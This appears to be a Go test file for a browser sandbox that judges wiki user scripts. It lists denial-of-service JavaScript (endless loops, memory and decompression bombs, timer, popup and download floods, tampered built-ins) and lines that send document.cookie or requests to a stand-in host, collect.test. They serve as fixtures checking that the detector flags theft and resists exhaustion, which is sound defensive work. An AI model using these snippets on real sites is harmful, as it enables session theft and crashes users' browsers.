package sandbox

import (
	"context"
	"slices"
	"strings"
	"testing"
	"time"

	"sallyport/internal/browser"
	"sallyport/internal/trace"
)

// Each of these tries to get rid of the sandbox instead of its reader: it ends in a verdict, or in unknown with the reason.
var hostileToUs = []struct {
	name, script string
	want         []trace.Verdict
	says         string // in the reasons, when unknown
}{
	{"an endless loop", "for (;;) {}", []trace.Verdict{trace.Unknown}, "loop"},
	{"an endless loop in a worker", "new Worker(URL.createObjectURL(new Blob(['for(;;){}'])));", nil, ""},
	{"recursion without end", "(function f() { f(); })();", nil, ""},
	{"a gigabyte", "const a = []; for (let i = 0; i < 1100; i++) { a.push(new Uint8Array(1 << 20).fill(1)); } window.kept = a;", nil, ""},
	{"a hundred thousand timers", "for (let i = 0; i < 1e5; i++) { setTimeout(() => {}, i); }", nil, ""},
	{"timers that breed", "(function f() { setTimeout(f, 0); setTimeout(f, 0); })();", nil, ""},
	{"dialogs without end", "for (let i = 0; i < 1e5; i++) { alert(i); }", nil, ""},
	{"popups", "for (let i = 0; i < 100; i++) { window.open('/wiki/Harbour?' + i); }", nil, ""},
	{"debugger statements", "for (let i = 0; i < 1e4; i++) { debugger; }", nil, ""},
	{"closing the page", "window.close();", nil, ""},
	{"leaving the page", "location.href = '/wiki/Harbour'; location.reload();", []trace.Verdict{trace.NothingSeen}, ""},
	{"loading the page again and again", "location.reload();", []trace.Verdict{trace.NothingSeen}, ""},
	{"going back", "history.back(); history.go(0);", nil, ""},
	{"a flood of events", "for (let i = 0; i < 2e5; i++) { console.log('x' + i); document.cookie; }", nil, ""},
	{"a flood of requests", "for (let i = 0; i < 3000; i++) { fetch('/w/api.php?n=' + i); }", nil, ""},
	{"tampered built-ins", "for (const o of [Object, Array, String, JSON, Reflect, Promise, Function, Array.prototype, String.prototype, Function.prototype, WeakMap.prototype, EventTarget.prototype]) { for (const k of Object.getOwnPropertyNames(o)) { try { if (k !== 'constructor') { o[k] = () => { throw new Error('gone'); }; } } catch (e) {} } }", nil, ""},
	{"a stopped event", "window.addEventListener = () => {}; EventTarget.prototype.dispatchEvent = () => true; Event.prototype.stopImmediatePropagation = () => {};", nil, ""},
	{"an emptied document", "document.open(); document.write('<p>nothing</p>'); document.close();", nil, ""},
	{"a page without a body", "document.documentElement.remove();", nil, ""},
	{"a frame in a frame in a frame", "(function f(d) { if (d > 12) return; const i = document.createElement('iframe'); i.src = '/wiki/Harbour'; document.body.append(i, i.cloneNode()); setTimeout(() => f(d + 1), 10); })(0);", nil, ""},
	{"a bomb of zeros", "(async () => { const z = new Blob([new Uint8Array(1 << 20)]).stream().pipeThrough(new CompressionStream('gzip')); const small = await new Response(z).arrayBuffer(); const a = []; for (let i = 0; i < 600; i++) { a.push(await new Response(new Blob([small]).stream().pipeThrough(new DecompressionStream('gzip'))).arrayBuffer()); } window.kept = a; })();", nil, ""},
	{"huge downloads", "for (let i = 0; i < 20; i++) { const a = document.createElement('a'); a.href = URL.createObjectURL(new Blob([new Uint8Array(20 << 20)])); a.download = 'x' + i; document.body.append(a); a.click(); }", nil, ""},
	{"a download of a gigabyte", "const a = document.createElement('a'); a.href = URL.createObjectURL(new Blob(Array(64).fill(new Uint8Array(16 << 20)))); a.download = 'x'; document.body.append(a); a.click();", nil, ""},
	{"a download from elsewhere", "const a = document.createElement('a'); a.href = '/wiki/Special:Export'; a.download = 'x'; document.body.append(a); a.click();", nil, ""},
	{"a bomb that it sends", "(async () => { const s = new Blob([new Uint8Array(64 << 20)]).stream().pipeThrough(new CompressionStream('gzip')); fetch('/w/api.php', { method: 'POST', body: await new Response(s).arrayBuffer() }); })();", nil, ""},
	{"animation without end", "(function f() { requestAnimationFrame(f); })();", []trace.Verdict{trace.NothingSeen}, ""},
	{"a syntax error", "this is no script", []trace.Verdict{trace.Unknown, trace.NothingSeen}, ""},
	{"nothing at all", "", nil, ""},
}

func TestWhatAttacksTheSandboxEndsInAVerdictOrUnknown(t *testing.T) {
	takesLong(t)
	proof := proofFor(t)
	first, people := oneWiki(t)
	for _, h := range hostileToUs {
		t.Run(h.name, func(t *testing.T) {
			t.Parallel()
			limits := browser.Limits{Wall: 5 * time.Second, Loop: time.Second}
			if slices.Contains(h.want, trace.NothingSeen) { // it comes to its end, however busy the machine is
				limits = browser.Limits{Wall: time.Minute, Loop: 30 * time.Second}
			}
			s, err := New(Options{Tier: Quick, Windows: 1, Budget: 2 * time.Minute, Browser: browser.Options{Proof: proof, Limits: browser.Limits{Memory: 700 << 20}}, Limits: limits, People: people,
				Until: func(r *trace.Report) bool { return r.Visits.Runs >= 3 }})
			if err != nil {
				t.Fatal(err)
			}
			s.memory = first.memory
			ctx, cancel := context.WithTimeout(context.Background(), 5*time.Minute)
			defer cancel()
			r, err := s.Run(ctx, Script{Path: "attack.js", Text: h.script})
			if err != nil {
				t.Fatalf("after all, there is no verdict: %v", err)
			}
			reasons := strings.Join(r.Report.Reasons, "; ")
			t.Logf("%s in %d runs: %.200s", r.Report.Verdict, r.Runs, reasons)
			if len(h.want) > 0 && !slices.Contains(h.want, r.Report.Verdict) {
				t.Errorf("verdict %s (%s), not %v", r.Report.Verdict, reasons, h.want)
			}
			if !strings.Contains(reasons, h.says) {
				t.Errorf("the reasons do not say %q: %s", h.says, reasons)
			}
			if r.Report.Verdict == trace.Hostile {
				t.Errorf("it does nothing to the reader, and is called hostile: %s", reasons)
			}
		})
	}
}

func TestWhoLeavesOrWaitsIsJudgedByWhatItDid(t *testing.T) {
	takesLong(t)
	proof := proofFor(t)
	first, people := oneWiki(t)
	for name, c := range map[string]struct {
		script string
		want   trace.Verdict
		says   string
	}{
		"leaving in the first line":   {"location = 'https://collect.test/?' + document.cookie;", trace.Hostile, "sends your session cookie to collect.test"},
		"loading again, then sending": {"location.reload(); fetch('https://collect.test/after');", trace.Suspicious, "contacts collect.test"},
		"sending, then closing":       {"fetch('https://collect.test/before'); window.close(); document.open(); document.close();", trace.Suspicious, "contacts collect.test"},
		"waiting frame by frame":      {"(function f() { if (performance.now() > 60000) { fetch('https://collect.test/late'); } else { requestAnimationFrame(f); } })();", trace.Suspicious, "contacts collect.test"},
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			s, err := New(Options{Tier: Quick, Windows: 1, Budget: 2 * time.Minute, Browser: browser.Options{Proof: proof}, People: people, Until: func(r *trace.Report) bool { return r.Verdict == c.want }})
			if err != nil {
				t.Fatal(err)
			}
			s.memory = first.memory
			r, err := s.Run(context.Background(), Script{Path: "leaves.js", Text: c.script})
			if err != nil {
				t.Fatal(err)
			}
			if reasons := strings.Join(r.Report.Reasons, "; "); r.Report.Verdict != c.want || !strings.Contains(reasons, c.says) {
				t.Errorf("%s: %s", r.Report.Verdict, reasons)
			}
		})
	}
}
